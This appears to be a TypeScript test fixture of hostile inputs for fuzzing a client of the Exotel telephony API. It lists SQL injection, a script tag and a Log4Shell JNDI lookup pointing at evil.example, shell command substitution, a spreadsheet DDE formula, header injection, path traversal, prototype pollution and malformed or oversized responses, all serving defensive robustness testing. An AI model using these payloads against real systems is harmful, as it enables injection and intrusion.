/** What harms wherever it is believed: texts, numbers and answers of a provider that nobody should trust. */
import type { HostileAnswer } from './hostile-exotel.ts'
import { words } from './surface.ts'

/** Stands in every hostile text, and in nothing that is told on. */
export const mark = 'hostilemark4711'

/** What harms whoever hands it on to a database, a page, a log, a shell, a spreadsheet or an object. */
export const hostileValues: readonly unknown[] = [
  `'; drop table calls; -- ${mark}`,
  `<script src=//evil.example/${mark}></script>`,
  `\${jndi:ldap://evil.example/${mark}}`,
  `$(touch /tmp/${mark})`,
  `=cmd|' /C ${mark}'!A0`,
  `\r\nX-Injected: ${mark}`,
  `\u001b]0;${mark}\u0007\u202e`,
  `../../../../etc/${mark}`,
  `${mark}\u0000`,
  mark.repeat(1000),
  [mark],
  { [mark]: mark, ['__proto__']: mark, constructor: { prototype: { isAdmin: mark } } },
  -1,
  1e308,
  2 ** 53,
  true,
  '1e999',
  '0x10',
  '9999-99-99 99:99:99',
  '0000-00-00 00:00:00',
]

/** The fields of a callback, and of Call Details. */
const fields = words(`
  EventType DateCreated DateUpdated To From PhoneNumberSid StartTime EndTime Status Duration Price
  ConversationDuration Direction CustomField RecordingUrl PreSignedRecordingUrl CallerName AnsweredBy
  ForwardedFrom Uri CallType DialCallStatus DialCallDuration Details Legs digits Stream
`)
/** All of those fields with one value. */
export const filledWith = (value: unknown) =>
  Object.fromEntries(fields.map((name) => [name, value]))

/** JSON that no stack holds. */
export const deep = `${'{"Call":'.repeat(50_000)}1${'}'.repeat(50_000)}`

/** Answers to an order that are none. */
export const connectAnswers = (port: number): Readonly<Record<string, HostileAnswer>> => ({
  'a redirect that keeps the order (307)': {
    status: 307,
    headers: { location: `http://127.0.0.1:${port}/` },
  },
  'a redirect for good (308)': { status: 308, headers: { location: `http://127.0.0.1:${port}/` } },
  'a redirect to a page (302)': { status: 302, headers: { location: `http://localhost:${port}/` } },
  'a page': { body: `<html>${mark}</html>`, headers: { 'content-type': 'text/html' } },
  'broken JSON': { body: `{"Call":{"Sid":"${mark}` },
  'JSON 50,000 deep': { body: deep },
  'eight megabytes': { body: `{"Call":{"Sid":"${mark.repeat(500_000)}"}}` },
  'no body': { body: '' },
  'a list': { body: [{ Call: { Sid: mark } }] },
  'a null': { body: 'null' },
  'an id that is a number': { body: { Call: { Sid: 4711 } } },
  'an id that is an object': { body: { Call: { Sid: { [mark]: 1 } } } },
  'an id that is a path': { body: { Call: { Sid: `../../${mark}` } } },
  'an id that is a statement': { body: { Call: { Sid: `' or '1'='1${mark}` } } },
  'an id with a line break': { body: { Call: { Sid: `a\r\n${mark}` } } },
  'an id of 10,000 letters': { body: { Call: { Sid: mark.repeat(700) } } },
  'a prototype': {
    body: `{"__proto__":{"Call":{"Sid":"${mark}"}},"constructor":{"prototype":{"Call":1}}}`,
  },
  'gzip that is none': { body: mark, headers: { 'content-encoding': 'gzip' } },
  'an error full of markup': {
    status: 500,
    body: { RestException: { Status: 500, Message: `<script>${mark}` } },
  },
})
